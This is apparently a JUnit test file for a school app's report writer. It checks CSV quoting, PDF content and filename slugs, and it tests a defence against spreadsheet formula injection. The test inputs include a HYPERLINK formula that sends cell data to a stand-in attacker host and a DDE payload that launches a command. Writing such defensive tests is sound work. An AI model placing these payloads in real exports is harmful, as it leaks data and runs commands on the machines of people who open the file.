package app.cascade.reports;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openpdf.text.pdf.PdfReader;
import org.openpdf.text.pdf.parser.PdfTextExtractor;

import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ReportWriterTest {

    record Line(String name, Integer count) {
    }

    static final ReportTable<Line> TABLE = ReportTable.of(ReportTable.column("Name", 3, Line::name),
            ReportTable.column("Count", 1, Line::count));

    @Test
    void csv_has_a_bom_the_headers_and_quotes_what_needs_quoting() throws Exception {
        byte[] csv = ReportWriter.csv(TABLE, List.of(new Line("Lakeside High, \"North\"", 3), new Line(null, null)));

        assertThat(csv[0] & 0xFF).isEqualTo(0xEF);
        assertThat(parse(csv)).containsExactly(List.of("Name", "Count"),
                List.of("Lakeside High, \"North\"", "3"), List.of("", ""));
    }

    /** OWASP's formula triggers (= + - @ tab CR) and ASVS's NUL, each in front of a payload. */
    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\0=1+1"})
    void a_text_cell_that_starts_with_a_formula_trigger_gets_a_single_quote_in_front(String payload)
            throws Exception {
        byte[] table = ReportWriter.csv(TABLE, List.of(new Line(payload, 1)));
        byte[] rows = ReportWriter.csv(List.of("Name", "Count"), List.of(List.of(payload, "1")));

        assertThat(parse(table)).containsExactly(List.of("Name", "Count"), List.of("'" + payload, "1"));
        assertThat(rows).isEqualTo(table);
        // the raw line: the cell starts with the quote (inside the CSV quotes when the cell needs quoting)
        String raw = new String(table, StandardCharsets.UTF_8).lines().skip(1).findFirst().orElseThrow();
        assertThat(raw).startsWith(raw.startsWith("\"") ? "\"'" : "'");
    }

    @Test
    void a_cell_with_a_trigger_and_a_comma_is_quoted_and_parses_back_as_one_cell() throws Exception {
        byte[] csv = ReportWriter.csv(List.of("Name"), List.of(List.of("=1+1,=2+2")));

        assertThat(new String(csv, StandardCharsets.UTF_8)).endsWith("\"'=1+1,=2+2\"\r\n");
        assertThat(parse(csv)).containsExactly(List.of("Name"), List.of("'=1+1,=2+2"));
    }

    @Test
    void text_without_a_leading_trigger_is_written_as_it_is() throws Exception {
        List<String> harmless = List.of("Labs", "A-1", "x=1", "", " =1", "'quoted", "1+1", "SUM(A1)");

        byte[] csv = ReportWriter.csv(List.of("Name"), harmless.stream().map(List::of).toList());

        assertThat(parse(csv).stream().skip(1).map(List::getFirst)).containsExactlyElementsOf(harmless);
    }

    /** Numbers stay numbers: a spreadsheet reads "-5" as minus five, never as a formula; text "-5" is neutralised. */
    @Test
    void a_number_cell_is_written_as_it_is_and_text_that_looks_like_a_number_is_neutralised() throws Exception {
        record Value(String label, Number amount) {
        }
        ReportTable<Value> table = ReportTable.of(ReportTable.column("Label", 1, Value::label),
                ReportTable.column("Amount", 1, Value::amount));

        byte[] csv = ReportWriter.csv(table, List.of(new Value("-5", -5), new Value("+2", new BigDecimal("-2.50")),
                new Value("x", 0L)));

        assertThat(parse(csv)).containsExactly(List.of("Label", "Amount"), List.of("'-5", "-5"),
                List.of("'+2", "-2.50"), List.of("x", "0"));
    }

    @Test
    void an_empty_pdf_says_what_nothing_here_means() throws Exception {
        byte[] pdf = ReportWriter.pdf("Title", "Subtitle", TABLE, List.of(), "Nothing to see in 26-27.");

        assertThat(new String(pdf, 0, 4, StandardCharsets.US_ASCII)).isEqualTo("%PDF");
        try (PdfReader reader = new PdfReader(pdf)) {
            assertThat(new PdfTextExtractor(reader).getTextFromPage(1)).contains("Title", "Name", "Count",
                    "Nothing to see in 26-27.");
        }
    }

    @Test
    void file_names_are_slugs_and_a_table_needs_a_column() {
        assertThat(ReportWriter.fileName("course-audit in High School Catalog for 26-27", "pdf"))
                .isEqualTo("course-audit-in-high-school-catalog-for-26-27.pdf");
        assertThatThrownBy(() -> new ReportTable<Line>(List.of())).isInstanceOf(IllegalArgumentException.class);
    }

    private static List<List<String>> parse(byte[] csv) throws Exception {
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVFormat.EXCEL.parse(new StringReader(text))) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        }
    }
}
